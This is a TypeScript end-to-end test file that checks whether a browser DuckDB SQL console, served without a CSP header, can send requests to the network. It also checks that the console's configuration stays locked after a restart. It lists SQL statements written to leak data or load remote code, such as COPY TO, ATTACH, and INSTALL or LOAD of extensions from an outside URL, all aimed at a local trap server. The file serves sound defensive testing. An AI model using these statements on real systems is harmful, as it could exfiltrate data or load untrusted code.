import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { BrowserContext, Page } from 'playwright-core';
import { openReady, type Recorder } from './support/browser';
import { consoleError, consoleReady, gridRows, runSql, typeSql } from './support/console-driver';
import { plainSite, trapServer, type Recorded } from './support/plain-server';

// Most sites will be served by a web server that sends no CSP header at all; then nothing
// but DuckDB itself stands between a console statement and the network. The site is served
// here without any security header, and a second origin (the trap) records every request
// that reaches it: each statement below made one before the lockdown (issue 10, point 1).
let site: Recorded;
let trap: Recorded;
let context: BrowserContext;
let page: Page;
let rec: Recorder;

beforeAll(async () => {
  [site, trap] = await Promise.all([plainSite(), trapServer()]);
  ({ context, page, rec } = await openReady(`${site.url}/console`, consoleReady));
});
afterAll(async () => {
  await context?.close();
  await site?.close();
  await trap?.close();
});

/** Every way the issue found to make the console's DuckDB send a request. */
const leaks = (t: string) => [
  `SELECT * FROM read_csv('${t}/x.csv')`,
  `SELECT * FROM read_csv('https://blocked.invalid/x.csv')`,
  `COPY (SELECT 1 AS a) TO '${t}/out.csv'`,
  `SELECT * FROM '${t}/scan.csv'`,
  `SELECT * FROM read_json('${t}/x.json')`,
  `SELECT * FROM read_text('${t}/x.txt')`,
  `SELECT * FROM glob('${t}/*')`,
  `ATTACH '${t}/db.duckdb' AS remote`,
  `LOAD '${t}/x.duckdb_extension.wasm'`,
  `SET custom_extension_repository = '${t}/ext'; LOAD json`,
  `INSTALL httpfs FROM '${t}/ext'`,
  `SELECT * FROM read_parquet('${t}/x.parquet')`
];

describe('served with no CSP header at all, no console statement reaches the network', () => {
  it('the server really sends no CSP (the worker script included)', async () => {
    // The worker script is loaded by the worker itself (an import() from a blob bootstrap, see
    // src/lib/db/duckdb-worker.ts), so the page's resource timing does not list it: the server's log does.
    const hit = site.hits.find((h) => /duckdb-browser-.*worker/.test(h));
    expect(hit).toBeDefined();
    const worker = `${site.url}${/\/[^\s]*/.exec(hit!)![0]}`;
    for (const u of [`${site.url}/console`, worker!]) {
      const headers = (await fetch(u)).headers;
      expect(headers.get('content-security-policy')).toBeNull();
    }
  });

  it('external access is off and the configuration locked', async () => {
    await runSql(page, `SELECT current_setting('enable_external_access') AS external, current_setting('lock_configuration') AS locked`);
    expect(await gridRows(page)).toEqual([['1', 'false', 'true']]);
    await runSql(page, 'SET enable_external_access = true');
    expect((await consoleError(page))?.en).toMatch(/locked|cannot change/i);
  });

  it('each leaking statement fails with a clear message and sends nothing', async () => {
    // Everything is gathered first, so a failure lists every statement that leaked.
    const seen: { sql: string; error: { ja: string; en: string } | null; trap: string[]; site: string[]; offOrigin: string[] }[] = [];
    for (const sql of leaks(trap.url)) {
      const [t, s, o] = [trap.hits.length, site.hits.length, rec.offOrigin.length];
      await runSql(page, sql, { all: true });
      await page.waitForTimeout(100); // let a late request arrive
      seen.push({
        sql,
        error: await consoleError(page),
        trap: trap.hits.slice(t),
        // The page may still fetch a font subset for new glyphs; nothing else, not even an extension lookup on our own origin.
        site: site.hits.slice(s).filter((h) => !/^GET \/_app\/immutable\/assets\/[^/]+\.woff2$/.test(h)),
        offOrigin: rec.offOrigin.slice(o)
      });
    }
    const leaked = seen.filter((x) => x.trap.length + x.site.length + x.offOrigin.length > 0);
    console.log(`${seen.length} statements; leaked: ${leaked.length}${leaked.map((x) => `\n  ${x.sql} → ${[...x.trap, ...x.site, ...x.offOrigin].join(', ')}`).join('')}`);
    expect(leaked.map((x) => x.sql)).toEqual([]);
    for (const x of seen) {
      expect(x.error, x.sql).not.toBeNull();
      expect(x.error!.ja, x.sql).not.toMatch(/^エラー: エラー/);
      expect(x.error!.en, x.sql).toMatch(/\S/);
    }
    expect(trap.hits).toEqual([]);
  });

  it('INSTALL and LOAD say that extensions are not available, in Japanese and English', async () => {
    for (const sql of ['INSTALL httpfs', 'LOAD httpfs', 'FORCE INSTALL json']) {
      await runSql(page, sql);
      const error = await consoleError(page);
      expect(error?.ja, sql).toContain('拡張機能');
      expect(error?.en, sql).toMatch(/extension/i);
    }
  });

  it('after a forced restart of the console’s engine the new instance is locked down too', async () => {
    await typeSql(page, 'SELECT len(list_sort(range(40000000)))');
    await page.keyboard.press('Control+Enter');
    await page.waitForSelector('[data-testid="console-state"][data-state="running"]', { state: 'attached' });
    await page.waitForTimeout(300);
    await page.getByTestId('cancel').click();
    await consoleReady(page);
    expect(await page.getByTestId('console-notice').textContent()).toContain('再起動');
    await runSql(page, `SELECT count(*) AS n, current_setting('enable_external_access') AS external FROM cases`);
    expect(await gridRows(page)).toEqual([['1', '245', 'false']]);
    await runSql(page, `SELECT * FROM read_csv('${trap.url}/after-restart.csv')`);
    expect(await consoleError(page)).not.toBeNull();
    expect(trap.hits).toEqual([]);
  });
});
